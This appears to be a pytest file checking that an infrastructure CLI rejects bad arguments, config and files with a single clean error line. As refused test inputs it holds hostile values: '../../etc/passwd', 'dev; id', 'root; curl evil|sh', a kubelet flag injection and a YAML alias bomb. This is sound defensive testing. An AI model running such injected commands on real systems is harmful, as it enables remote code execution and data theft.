"""Every command (plan, check, audit, bench, train) given bad input of each kind (usage, config, program,
files, outputs): the right exit code, exactly one stderr line starting `error:` that names what is wrong, and
no traceback. The commands run in this process (the cheapest bad inputs fail in well under a second); stderr is
captured at the file descriptor, so output from threads and asyncio teardown counts too."""

from __future__ import annotations

import copy
import json
import os
import re

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sahab.cli import main
from tests.components.fleet_config.test_fleet_fuzz import FIELDS, HOSTILE, LABEL_KEY, field_path, with_value
from tests.fleets import ROOT, hybrid_fleet

# Its programs fork from warm hosts (tests/conftest.py).
pytestmark = pytest.mark.usefixtures("warm_program_hosts")

NOWHERE = "http://127.0.0.1:9"  # discard port on loopback: nothing listens, nothing leaves the machine


@pytest.fixture(autouse=True)
def no_aws_credentials_of_the_host(monkeypatch, tmp_path):
    for name in list(os.environ):
        if name.startswith("AWS_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "no-aws-config"))
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(tmp_path / "no-aws-credentials"))


@pytest.fixture
def files(tmp_path):
    """Bad files of every kind, and a program folder whose stack `t` holds a given fleet."""
    (tmp_path / "binary.json").write_bytes(b"\x00\xff\xfe\x80")
    (tmp_path / "not-a-result.json").write_text('{"node": "x"}')
    (tmp_path / "a-file").write_text("x")
    (tmp_path / "a-folder").mkdir()
    return tmp_path


def program(tmp_path, stack: str | dict, name: str = "p"):
    folder = tmp_path / name
    folder.mkdir(exist_ok=True)
    (folder / "Pulumi.yaml").write_text(f"name: sahab\nruntime: python\nmain: {ROOT / 'stacks'}\n")
    text = stack if isinstance(stack, str) else yaml.safe_dump({"config": {"sahab:fleet": stack}})
    (folder / "Pulumi.t.yaml").write_text(text)
    return folder


def run(capfd, argv: list[str]) -> tuple[int, str, str]:
    capfd.readouterr()
    code = main(argv)
    out, err = capfd.readouterr()
    return code, out, err


def assert_one_error_line(code: int, err: str, expected_code: int, says: str) -> None:
    assert "Traceback" not in err, err
    lines = err.rstrip("\n").split("\n")
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    assert says in lines[0], (says, lines[0])
    assert code == expected_code, (code, err)


def fleet(mutate) -> dict:
    data = hybrid_fleet()
    mutate(data)
    return data


# ---- usage: every command -----------------------------------------------------------------------------------

USAGE = [
    (["plan", "--format", "xml"], "argument --format"),
    (["plan", "--stack"], "argument --stack"),
    (["plan", "--stack", "../../etc/passwd"], "'../../etc/passwd' is not a stack name"),
    (["check", "--stack", "dev; id"], "'dev; id' is not a stack name"),
    (["check", "--format", "pdf"], "argument --format"),
    (["check", "--no-such-flag"], "--no-such-flag"),
    (["audit", "gcp"], "argument cloud"),
    (["audit", "aws", "--regions", "a b;c", "--endpoint-url", NOWHERE], "--regions: 'b;c'"),
    (["audit", "aws", "--scan-regions", "mars", "--endpoint-url", NOWHERE], "--scan-regions: 'mars'"),
    (["audit", "aws", "--endpoint-url", "ftp://127.0.0.1/"], "--endpoint-url"),
    *[(["audit", "aws", "--endpoint-url", url], f"--endpoint-url: {url!r} is not allowed")
      for url in ("http://[::1", "http://127.0.0.1:99999", "http://127.0.0.1:0", "http://127.0.0.1:x", "http://")],
    *[(["node-validate", "--node", "n", "--once", "--interval", value], "argument --interval: ")
      for value in ("99999999999999999999d", "\u0661\u0660m", "0s", "366d", "24h\n")],
    (["node-validate", "--node", "n", "--once", "--api-server", "file:///etc/passwd"], "argument --api-server: "),
    (["node-validate", "--node", "n", "--once", "--api-server", "https://[::1"], "argument --api-server: "),
    (["doctor", "--only", "tools", "--endpoint", "azure=http://[::1"], "argument --endpoint: "),
    (["audit", "aws", "--max-workers", "0", "--endpoint-url", NOWHERE], "--max-workers"),
    (["audit", "aws", "--timeout", "0", "--endpoint-url", NOWHERE], "--timeout"),
    (["audit", "aws", "--timeout", "soon"], "argument --timeout"),
    (["bench", "--format", "xml"], "argument --format"),
    (["bench", "--results", "r.json"], "--results is only used with --fleet-report"),
    (["bench", "--fleet-report", "r.html"], "--fleet-report needs --results"),
    (["train", "--nproc", "0"], "argument --nproc"),
    (["train", "--steps", "abc"], "argument --steps"),
    (["train", "--precision", "fp8"], "argument --precision"),
    (["train", "--checkpoint-every", "-1"], "argument --checkpoint-every"),
    (["train", "--time-budget", "2"], "argument --time-budget: must be between 5 and 3600 seconds"),
    (["deploy"], "invalid choice: 'deploy'"),
    *[([*command, "--timeout", value], "argument --timeout: ") for value in ("nan", "inf", "0", "-1", "1e400")
      for command in (["init", "office", "--host", "127.0.0.1"], ["doctor", "--only", "tools"], ["plan"], ["check"],
                      ["evidence"])],
]


@pytest.mark.parametrize(("argv", "says"), USAGE, ids=[" ".join(a) for a, _ in USAGE])
def test_bad_usage_of_every_command_is_one_error_line_and_exit_2(capfd, argv, says):
    code, _, err = run(capfd, argv)
    assert_one_error_line(code, err, 2, says)


# ---- files: missing, binary, not what they should be ---------------------------------------------------------

FILE_CASES = [
    (["check", "--policy-config", "{tmp}/missing.json"], "missing.json"),
    (["check", "--waivers", "{tmp}/missing.yaml"], "missing.yaml"),
    (["audit", "aws", "--waivers", "{tmp}/missing.yaml", "--endpoint-url", NOWHERE], "missing.yaml"),
    (["audit", "aws", "--output", "{tmp}/a-folder", "--endpoint-url", NOWHERE], "--output {tmp}/a-folder"),
    (["audit", "aws", "--output", "{tmp}/a-file/report.json", "--endpoint-url", NOWHERE], "--output"),
    (["audit", "aws", "--evidence-dir", "{tmp}/a-file/ev", "--endpoint-url", NOWHERE], "--evidence-dir"),
    (["bench", "--fleet-report", "{tmp}/r.html", "--results", "{tmp}/missing.json"], "missing.json: no such file"),
    (["bench", "--fleet-report", "{tmp}/r.html", "--results", "{tmp}/binary.json"], "binary.json: not a sahab bench"),
    (["bench", "--fleet-report", "{tmp}/r.html", "--results", "{tmp}/not-a-result.json"], "not-a-result.json"),
    (["bench", "--output", "{tmp}/r.json", "--save-baseline", "{tmp}/a-folder/../r.json"],
     "--output {tmp}/r.json and --save-baseline {tmp}/a-folder/../r.json: the same file"),
    (["audit", "aws", "--output", "{tmp}/e.html", "--evidence", "{tmp}/e.json", "--endpoint-url", NOWHERE],
     "--output {tmp}/e.html and --evidence {tmp}/e.json (its page {tmp}/e.html): the same file"),
    (["plan", "--stack", "qa"], "--stack qa: no Pulumi.qa.yaml"),
    (["plan", "--program", "{tmp}/a-folder"], "Pulumi.yaml"),
]


@pytest.mark.parametrize(("argv", "says"), FILE_CASES, ids=[" ".join(a) for a, _ in FILE_CASES])
def test_bad_files_are_one_error_line_naming_the_file(capfd, files, argv, says):
    argv = [a.format(tmp=files) for a in argv]
    code, _, err = run(capfd, argv)
    assert_one_error_line(code, err, 2, says.format(tmp=files))


# Every option that reads a file, given a folder: it is called a folder, with what the option takes.
FOLDER_FOR_A_FILE = [
    (["check", "--waivers"], "a waivers YAML file"),
    (["check", "--policy-config"], "a policy config JSON file"),
    (["audit", "aws", "--endpoint-url", NOWHERE, "--waivers"], "a waivers YAML file"),
    (["evidence", "--waivers"], "a waivers YAML file"),
    (["evidence", "--policy-config"], "a policy config JSON file"),
    (["evidence", "--audit"], "the JSON file `sahab audit aws --evidence FILE` wrote"),
    (["init", "office", "--host", "127.0.0.1", "--identity"], "an SSH private key file"),
    (["registry", "pin", "--ca-file"], "a PEM file of CA certificates"),
    (["bench", "--baseline"], "a baseline JSON file"),
    (["bench", "--fleet-report", "r.html", "--results"], "a sahab bench JSON result"),
    (["train", "--baseline"], "a baseline JSON file"),
    (["node-validate", "--node", "n", "--once", "--baseline"], "a baseline JSON file"),
]


@pytest.mark.parametrize(("argv", "expected"), FOLDER_FOR_A_FILE, ids=[" ".join(a) for a, _ in FOLDER_FOR_A_FILE])
def test_a_folder_given_for_a_file_is_called_a_folder(capfd, files, argv, expected):
    code, _, err = run(capfd, [*argv, str(files / "a-folder")])
    assert_one_error_line(code, err, 2, f"{files / 'a-folder'}: is a directory; expected {expected}")
    assert f"{argv[-1]}: {files / 'a-folder'}" in err or f"{argv[-1]} {files / 'a-folder'}" in err  # the option


def test_a_bad_waivers_file_is_refused_before_the_program_runs(capfd, tmp_path):
    folder = tmp_path / "marks"
    folder.mkdir()
    (folder / "Pulumi.yaml").write_text("name: marks\nruntime: python\n")
    (folder / "Pulumi.dev.yaml").write_text("config: {}\n")
    (folder / "__main__.py").write_text(f"import pathlib\npathlib.Path({str(tmp_path / 'ran')!r}).touch()\n")
    code, _, err = run(capfd, ["check", "--program", str(folder), "--waivers", str(tmp_path / "missing.yaml")])
    assert_one_error_line(code, err, 2, "missing.yaml")
    assert not (tmp_path / "ran").exists()  # the program never started


def _marking_program(tmp_path):
    """A program that leaves a mark when it runs."""
    folder = tmp_path / "marks"
    folder.mkdir()
    (folder / "Pulumi.yaml").write_text("name: marks\nruntime: python\n")
    (folder / "Pulumi.dev.yaml").write_text("config: {}\n")
    (folder / "__main__.py").write_text(f"import pathlib\npathlib.Path({str(tmp_path / 'ran')!r}).touch()\n")
    return folder


TWO_OUTPUTS_ONE_FILE = [
    (["-o", "F", "--report", "json=F"], "--output F and --report json=F: the same file"),
    (["-o", "F", "--report", "json=./F"], "--output F and --report json=./F: the same file"),
    (["--report", "sarif=F", "--report", "junit=sub/../F"], "--report sarif=F and --report junit=sub/../F: the same"),
    (["-o", "{tmp}/F", "--report", "text=F"], "--output {tmp}/F and --report text=F: the same file"),
    (["-o", "F", "--report", "json=link"], "--output F and --report json=link: the same file"),  # a link to F
    (["-o", "new", "--report", "json=./new"], "--output new and --report json=./new: the same file"),  # not there yet
]


@pytest.mark.parametrize(("argv", "says"), TWO_OUTPUTS_ONE_FILE, ids=[" ".join(a) for a, _ in TWO_OUTPUTS_ONE_FILE])
def test_two_outputs_to_one_file_are_refused_naming_both_before_the_program_runs(
        capfd, tmp_path, monkeypatch, argv, says):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "sub").mkdir()
    (tmp_path / "F").write_text("KEEP\n")
    (tmp_path / "link").symlink_to(tmp_path / "F")
    argv = [a.format(tmp=tmp_path) for a in argv]
    code, _, err = run(capfd, ["check", "--program", str(_marking_program(tmp_path)), *argv])
    assert_one_error_line(code, err, 2, says.format(tmp=tmp_path))
    assert not (tmp_path / "ran").exists()  # refused up front: the program never started
    assert (tmp_path / "F").read_text() == "KEEP\n" and not (tmp_path / "new").exists()


def test_outputs_to_different_files_or_streams_are_all_written(capfd, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    code, _, err = run(capfd, ["check", "--program", str(_marking_program(tmp_path)), "--format", "json",
                               "-o", "F", "--report", "json=G", "--report", "text=/dev/null",
                               "--report", "sarif=/dev/null"])
    assert code == 0, err
    assert json.loads((tmp_path / "F").read_text()) == json.loads((tmp_path / "G").read_text())


def test_the_run_is_judged_by_the_waivers_file_read_before_it(capfd, tmp_path):
    """The file is read once: a program that replaces it mid-run changes nothing about the verdict."""
    waivers = tmp_path / "waivers.yaml"
    waivers.write_text("waivers: []\n")
    folder = tmp_path / "rewrites"
    folder.mkdir()
    (folder / "Pulumi.yaml").write_text("name: rewrites\nruntime: python\n")
    (folder / "Pulumi.dev.yaml").write_text("config: {}\n")
    (folder / "__main__.py").write_text(f"import pathlib\npathlib.Path({str(waivers)!r}).write_text('nonsense: [')\n")
    code, _, err = run(capfd, ["check", "--program", str(folder), "--waivers", str(waivers)])
    assert code == 0 and "error" not in err, err
    assert waivers.read_text() == "nonsense: ["  # the program did run, and rewrote it


# ---- config: the fleets of issue 18, through plan and check ----------------------------------------------

FLEETS = [
    ("config:\n  sahab:fleet: hello\n", "sahab:fleet: must be a mapping"),
    (fleet(lambda d: d.update(workload={"enabled": True, "teams": []})), "sahab:fleet.workload.teams:"),
    (fleet(lambda d: d.update(workload={"teams": [{"name": "kube-system"}]})), "sahab:fleet.workload.teams[0].name:"),
    (fleet(lambda d: d["node_pools"][0].update(labels={"team": "x --anonymous-auth=true"})),
     "sahab:fleet.node_pools[0].labels.team:"),
    (fleet(lambda d: d["node_pools"][0].update(extra_taints=[{"key": "k", "value": "a\nb"}])),
     "sahab:fleet.node_pools[0].extra_taints[0].value:"),
    (fleet(lambda d: d["node_pools"][1].update(instance_type="g5.bogus")), "sahab:fleet.node_pools[1].instance_type:"),
    (fleet(lambda d: d["sites"][0]["hosts"][1].update(address="10.0.0.1")), "sahab:fleet.sites[0].hosts[1].address:"),
    (fleet(lambda d: d["node_pools"][1].update(max_size=True)), "sahab:fleet.node_pools[1].max_size:"),
    (fleet(lambda d: d["clusters"][1].update(kubernetes_version="1.99")),
     "sahab:fleet.clusters[1].kubernetes_version:"),
    (fleet(lambda d: d.update(monitoring={"retention": "0d"})), "sahab:fleet.monitoring.retention:"),
    (fleet(lambda d: d["sites"][0].update(ssh_user="root; curl evil|sh")), "sahab:fleet.sites[0].ssh_user:"),
    (fleet(lambda d: d["clusters"][1].update(public_endpoint=True)), "sahab:fleet.clusters[1].public_endpoint_cidrs:"),
    (fleet(lambda d: (d.update(name="f" * 20), d["storage"]["buckets"][0].update(name="b" * 40))),
     "sahab:fleet.storage.buckets[0].name:"),
]


@pytest.mark.parametrize(("stack", "says"), FLEETS, ids=[s for _, s in FLEETS])
def test_bad_fleets_are_one_error_line_naming_the_setting_in_plan_and_check(capfd, tmp_path, stack, says):
    folder = program(tmp_path, stack)
    for command in ("plan", "check"):
        code, out, err = run(capfd, [command, "--program", str(folder), "--stack", "t", "--format", "json"])
        assert_one_error_line(code, err, 2, says)
        assert out == ""


def test_a_program_that_raises_is_one_error_line_in_plan_and_check(capfd, tmp_path):
    folder = tmp_path / "broken"
    folder.mkdir()
    (folder / "Pulumi.yaml").write_text("name: broken\nruntime: python\n")
    (folder / "Pulumi.dev.yaml").write_text("config: {}\n")
    (folder / "__main__.py").write_text("import pulumi\n\nraise KeyError('region')\n")
    for command in ("plan", "check"):
        code, _, err = run(capfd, [command, "--program", str(folder), "--stack", "dev"])
        assert_one_error_line(code, err, 2, f"{folder / '__main__.py'}:3: KeyError")


def test_a_check_report_into_a_missing_folder_is_one_error_line(capfd, tmp_path):
    folder = program(tmp_path, {"environment": "smb"})
    code, _, err = run(capfd, ["check", "--program", str(folder), "--stack", "t",
                               "--output", str(tmp_path / "nowhere" / "report.json")])
    assert_one_error_line(code, err, 2, "--output")


# ---- files that are not UTF-8 or hold values JSON has not: named, in every command that reads the stack -------

SMB = (ROOT / "stacks" / "Pulumi.smb.yaml").read_text()
READERS = [["plan"], ["check"], ["registry", "list"], ["forwarders"], ["doctor", "--only", "tools"]]
NOT_JSON = [
    ("city: 2020-01-05", "'2020-01-05' is a YAML date"),
    ("city: 2020-13-45", "'2020-13-45' is a YAML date"),
    ("city: 2020-01-05T10:00:00Z", "is a YAML date or time"),
    ("city: !!binary aGVsbG8=", "!!binary"),
    ("city: !!set {a: null}", "!!set"),
    ("city: .nan", "not a JSON number"),
]


def _smb_with(line: str) -> str:
    assert "city: Sharjah" in SMB
    return SMB.replace("city: Sharjah", line, 1)


@pytest.mark.parametrize("argv", READERS, ids=" ".join)
def test_a_stack_file_that_is_not_utf8_is_named(capfd, tmp_path, argv):
    folder = program(tmp_path, "")
    (folder / "Pulumi.t.yaml").write_bytes(_smb_with("city: Sharjah caf\xe9").encode("latin-1"))
    code, _, err = run(capfd, [*argv, "--program", str(folder), "--stack", "t"])
    assert_one_error_line(code, err, 2, f"{folder / 'Pulumi.t.yaml'}: not UTF-8 text")
    assert "must be saved as UTF-8" in err


@pytest.mark.parametrize("argv", READERS, ids=" ".join)
def test_a_key_written_twice_in_a_stack_file_is_named_not_overridden(capfd, tmp_path, argv):
    folder = program(tmp_path, "")
    (folder / "Pulumi.t.yaml").write_text(_smb_with("city: Sharjah\n        city: Dubai"))
    code, _, err = run(capfd, [*argv, "--program", str(folder), "--stack", "t"])
    assert_one_error_line(code, err, 2, f"{folder / 'Pulumi.t.yaml'}: not valid YAML")
    assert "the key 'city' is written twice (first on line" in err


def test_a_project_file_that_is_not_utf8_is_named(capfd, tmp_path):
    folder = program(tmp_path, SMB)
    (folder / "Pulumi.yaml").write_bytes(b"name: caf\xe9\nruntime: python\n")
    code, _, err = run(capfd, ["plan", "--program", str(folder), "--stack", "t"])
    assert_one_error_line(code, err, 2, f"{folder / 'Pulumi.yaml'}: not UTF-8 text")


@pytest.mark.parametrize(("line", "says"), NOT_JSON, ids=[line for line, _ in NOT_JSON])
def test_a_stack_value_that_is_not_json_names_the_file_and_key(capfd, tmp_path, line, says):
    folder = program(tmp_path, _smb_with(line))
    for argv in READERS:
        code, out, err = run(capfd, [*argv, "--program", str(folder), "--stack", "t"])
        assert_one_error_line(code, err, 2, f"{folder / 'Pulumi.t.yaml'}: config.sahab:fleet.sites[0].city: ")
        assert says in err and out == ""


def test_a_quoted_date_is_a_string_and_plans(capfd, tmp_path):
    folder = program(tmp_path, _smb_with('city: "2020-01-05"'))
    code, out, err = run(capfd, ["plan", "--program", str(folder), "--stack", "t", "--format", "json"])
    assert code == 0, err
    assert json.loads(out)["config"]["sahab:fleet"]["sites"][0]["city"] == "2020-01-05"


@pytest.mark.parametrize("expires", ["2020-13-45", "2026-02-30", "2026-12-31T10:00:00", "!!binary aGVsbG8="])
def test_an_impossible_waiver_expiry_names_the_key_in_check_and_audit(capfd, tmp_path, expires):
    waivers = tmp_path / "w.yaml"
    waivers.write_text("waivers:\n  - policy: kubernetes-core-namespace-pod-security-enforced\n"
                       "    resource: urn:pulumi:smb::sahab::kubernetes:core/v1:Namespace::x\n"
                       f"    reason: r\n    owner: me\n    expires: {expires}\n")
    folder = program(tmp_path, SMB)
    for argv in (["check", "--program", str(folder), "--stack", "t"],
                 ["audit", "aws", "--endpoint-url", NOWHERE, "--evidence-dir", str(tmp_path / "ev")]):
        code, _, err = run(capfd, [*argv, "--waivers", str(waivers)])
        assert_one_error_line(code, err, 2, f"{waivers}: waivers[0].expires: ")


# ---- the fuzz, end to end: a few hostile fleets through `sahab plan` --------------------------------------

CONTROL = re.compile(r"[\x00-\x1f\x7f]")


@settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                 HealthCheck.too_slow])
@given(field=st.sampled_from([f for f in FIELDS if f[-1] != LABEL_KEY]), value=HOSTILE)
def test_a_hostile_fleet_through_the_cli_is_refused_naming_the_setting_or_plans_clean_values(
        capfd, tmp_path_factory, field, value):
    data = with_value(field, value)
    folder = program(tmp_path_factory.mktemp("fuzz"), copy.deepcopy(data))
    code, out, err = run(capfd, ["plan", "--program", str(folder), "--stack", "t", "--format", "json"])
    assert "Traceback" not in err
    if code == 2:
        lines = err.rstrip("\n").split("\n")
        assert len(lines) == 1 and lines[0].startswith("error: sahab:fleet"), err
        return
    assert code in (0, 1), err  # 1: accepted, but the readiness verdict says it would not come up
    assert json.loads(out)["resources"]
    # What the plan accepted is plain: nothing that adds a line, a flag or an Ansible template where it lands. The
    # schema strips surrounding whitespace (str_strip_whitespace), so what lands is the stripped value.
    landed = value.strip()
    assert not CONTROL.search(landed) and "{{" not in landed and " --" not in landed, (field_path(field), value)


def test_an_accepted_fleet_reaches_the_clouds_with_its_values_intact(capfd, tmp_path):
    data = hybrid_fleet()
    data["clusters"][1].update(public_endpoint=True, public_endpoint_cidrs=["203.0.113.0/24"])
    data["clusters"][2].update(public_endpoint=True, public_endpoint_cidrs=["198.51.100.0/24", "192.0.2.0/28"])
    for pool in data["node_pools"][1:]:
        pool.update(labels={"example.com/team": "vision-1", "node.kubernetes.io/exclude-from-external-load-balancers":
                            "true"}, extra_taints=[{"key": "example.com/dedicated", "value": "vision", "effect":
                                                    "NoExecute"}])
    code, out, err = run(capfd, ["plan", "--program", str(program(tmp_path, data)), "--stack", "t",
                                 "--format", "json"])
    assert code == 0, err
    by_type: dict[str, list[dict]] = {}
    for r in json.loads(out)["resources"]:
        by_type.setdefault(r["type"], []).append(r["inputs"])
    (eks,) = by_type["aws:eks/cluster:Cluster"]
    assert eks["vpcConfig"]["publicAccessCidrs"] == ["203.0.113.0/24"]
    (aks,) = by_type["azure-native:containerservice:ManagedCluster"]
    assert aks["apiServerAccessProfile"]["authorizedIPRanges"] == ["198.51.100.0/24", "192.0.2.0/28"]
    (group,) = by_type["aws:eks/nodeGroup:NodeGroup"]
    assert group["labels"]["example.com/team"] == "vision-1"
    assert {"key": "example.com/dedicated", "value": "vision", "effect": "NO_EXECUTE"} in group["taints"]
    pools = [p for p in by_type["azure-native:containerservice:AgentPool"] if p.get("nodeTaints")]
    assert pools[0]["nodeTaints"] == ["example.com/dedicated=vision:NoExecute"]


@pytest.mark.parametrize("value", ["abc", "0", "-5", "nan", "inf", "\u0663\u0660"])
def test_a_bad_program_timeout_variable_is_one_error_line_naming_it(capfd, monkeypatch, tmp_path, value):
    monkeypatch.setenv("SAHAB_PROGRAM_TIMEOUT", value)
    folder = program(tmp_path, SMB)
    code, _, err = run(capfd, ["plan", "--program", str(folder), "--stack", "t"])
    assert_one_error_line(code, err, 2, f"SAHAB_PROGRAM_TIMEOUT={value!r}: must be a positive, finite number")


@pytest.mark.parametrize("content", [b"", b"not a certificate\n",
                                     b"-----BEGIN CERTIFICATE-----\nMIIBhalf\n-----END CERTIFICATE-----\n",
                                     b"-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n"])
@pytest.mark.parametrize("action", ["pin", "seed"])
def test_an_unusable_ca_file_is_one_error_line_naming_the_option(capfd, tmp_path, content, action):
    ca = tmp_path / "ca.pem"
    ca.write_bytes(content)
    code, _, err = run(capfd, ["registry", action, "--program", str(ROOT), "--stack", "smb", "--ca-file", str(ca)])
    assert_one_error_line(code, err, 2, f"argument --ca-file: {ca}: not a usable PEM file of CA certificates")


def test_an_alias_bomb_is_refused_at_once_naming_the_file(capfd, tmp_path):
    lines = ["config:", "  a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"  a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
    folder = program(tmp_path, "\n".join([*lines, "  sahab:fleet: {environment: smb}", ""]))
    code, _, err = run(capfd, ["plan", "--program", str(folder), "--stack", "t"])
    assert_one_error_line(code, err, 2, f"{folder / 'Pulumi.t.yaml'}: its aliases expand to more than 1,000,000")


# ---- SOURCE_DATE_EPOCH: the time `sahab evidence` records (the reproducible-builds convention) --------------

def _signing_key(folder) -> str:
    from cryptography.hazmat.primitives import serialization as ser
    from cryptography.hazmat.primitives.asymmetric import ed25519

    key = folder / "org.key"
    key.write_bytes(ed25519.Ed25519PrivateKey.generate().private_bytes(
        ser.Encoding.PEM, ser.PrivateFormat.PKCS8, ser.NoEncryption()))
    return str(key)


@pytest.mark.parametrize("value", ["abc", "-5", " 5", "+5", "1_000", "1.5", "\u0665", "253402300800", "9" * 30])
def test_a_bad_source_date_epoch_is_one_error_line_naming_it(capfd, monkeypatch, tmp_path, value):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", value)
    code, _, err = run(capfd, ["evidence", "--program", str(_marking_program(tmp_path)), "--out",
                               str(tmp_path / "b"), "--key", _signing_key(tmp_path)])
    assert_one_error_line(code, err, 2, f"SOURCE_DATE_EPOCH={value!r}: not allowed; allowed: whole seconds since "
                                        "1970-01-01 00:00:00 UTC")
    assert not (tmp_path / "ran").exists() and not (tmp_path / "b").exists()


@pytest.mark.parametrize(("days_after_today", "status"), [(None, "active"), (60, "expired")],
                         ids=["epoch-0", "60-days-ahead"])
def test_source_date_epoch_sets_the_day_waivers_are_judged_at_without_blaming_the_waivers_file(
        capfd, monkeypatch, tmp_path, days_after_today, status):
    """0 is 1970-01-01T00:00:00Z: the bundle is written, a waiver expiring in 30 days (of a mandatory rule, so
    90 days at most) still holds then; 60 days ahead it has expired. The file itself is judged on the real day."""
    import datetime as dt

    today = dt.datetime.now(dt.UTC).date()
    expires = today + dt.timedelta(days=30)
    epoch = 0 if days_after_today is None else int(dt.datetime.combine(
        today + dt.timedelta(days=days_after_today), dt.time(), dt.UTC).timestamp())
    waivers = tmp_path / "w.yaml"
    waivers.write_text("waivers:\n  - policy: aws-all-resource-region-allowed\n    resource: urn:pulumi:t::sahab::"
                       "kubernetes:core/v1:Namespace::sahab-smb-office-platform-storage-namespace\n"
                       f"    reason: r\n    owner: me\n    expires: {expires.isoformat()}\n")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", str(epoch))
    out = tmp_path / "bundle"
    code, _, err = run(capfd, ["evidence", "--program", str(program(tmp_path, SMB)), "--stack", "t", "-q",
                               "--out", str(out), "--key", _signing_key(tmp_path), "--waivers", str(waivers)])
    assert code == 0, err
    doc = json.loads((out / "evidence.json").read_text())
    assert doc["generatedAt"] == dt.datetime.fromtimestamp(epoch, dt.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    (register,) = doc["waivers"]
    assert register["status"] == status and register["expires"] == expires.isoformat()


# ---- a fleet whose config is more than the Pulumi CLI can hand a program ------------------------------------

def _onprem_fleet(hosts: int) -> dict:
    names = [f"node{i:04d}" for i in range(hosts)]
    return {"name": "sahab-big", "environment": "smb", "sites": [{
        "name": "office", "emirate": "sharjah", "city": "Sharjah",
        "hosts": [{"name": n, "address": f"10.{20 + i // 250}.0.{i % 250 + 1}", "cpus": 16, "memory_gib": 64,
                   "data_disk": f"/dev/disk/by-id/ata-Samsung_SSD_870_EVO_1TB_S6PTNZ0R6{i:05d}"}
                  for i, n in enumerate(names)]}],
        "clusters": [{"name": "office", "kind": "onprem", "site": "office", "control_plane_hosts": names[:1]}],
        "node_pools": [{"name": "office-cpu", "cluster": "office", "accelerator": "cpu", "hosts": names[1:]}]}


def test_an_800_host_fleet_beyond_what_the_pulumi_cli_can_pass_is_one_error_line_naming_the_limit(capfd, tmp_path):
    """The CLI hands a program its config in one environment variable (PULUMI_CONFIG), which Linux caps at 128 KiB:
    past that, `pulumi up` cannot start the program. Said up front, the same in a fresh process and a warm host."""
    folder = program(tmp_path, _onprem_fleet(800))
    says = (f"{folder / 'Pulumi.t.yaml'}: config too large: ", " bytes as PULUMI_CONFIG, the environment variable "
            "in which the Pulumi CLI hands a program its config; Linux allows 131,072 bytes in one (MAX_ARG_STRLEN)")
    for command in ("plan", "check"):
        code, out, err = run(capfd, [command, "--program", str(folder), "--stack", "t"])  # warm hosts
        assert_one_error_line(code, err, 2, says[0])
        assert says[1] in err and out == ""
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-m", "sahab", "plan", "--program", str(folder), "--stack", "t"],
                          capture_output=True, text=True, timeout=300)  # a fresh process: no E2BIG from exec
    assert_one_error_line(done.returncode, done.stderr, 2, says[0])
